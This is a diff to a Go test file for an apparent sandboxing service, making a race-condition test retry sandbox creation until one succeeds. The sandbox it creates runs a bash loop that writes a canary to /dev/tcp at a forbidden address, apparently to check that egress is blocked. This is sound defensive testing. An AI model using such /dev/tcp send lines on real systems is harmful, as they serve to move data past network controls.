@@ -8,6 +8,7 @@ import (
 	"os/exec"
 	"sync"
 	"testing"
+	"time"
 
 	"bottled/api"
 	"bottled/api/client"
@@ -97,17 +98,25 @@ func TestAttackSameName(t *testing.T) {
 			all.Go(func() {
 				switch i % 4 {
 				case 0, 1:
-					_, err := d.Create(ctx, api.CreateRequest{
-						Name: "same", Manifest: manifest("", ""), Dir: dir, User: &someone,
-						Command: []string{"/bin/bash", "-c", "while :; do echo canary > /dev/tcp/" + forbidden.Addr4.String() + "/9000; done 2>/dev/null"},
-					})
-					mu.Lock()
-					if err == nil {
-						made++
-					} else {
-						refused++
+					// Anew until one is made, as a stop gives up a start that is under way.
+					for range 500 {
+						_, err := d.Create(ctx, api.CreateRequest{
+							Name: "same", Manifest: manifest("", ""), Dir: dir, User: &someone,
+							Command: []string{"/bin/bash", "-c", "while :; do echo canary > /dev/tcp/" + forbidden.Addr4.String() + "/9000; done 2>/dev/null"},
+						})
+						mu.Lock()
+						if err == nil {
+							made++
+						} else {
+							refused++
+						}
+						met := made > 0
+						mu.Unlock()
+						if met {
+							return
+						}
+						time.Sleep(10 * time.Millisecond)
 					}
-					mu.Unlock()
 				case 2:
 					_, _ = d.UpdateRoutes(ctx, "same", api.RoutesRequest{Manifest: manifest(otherRoute, "")})
 				case 3:
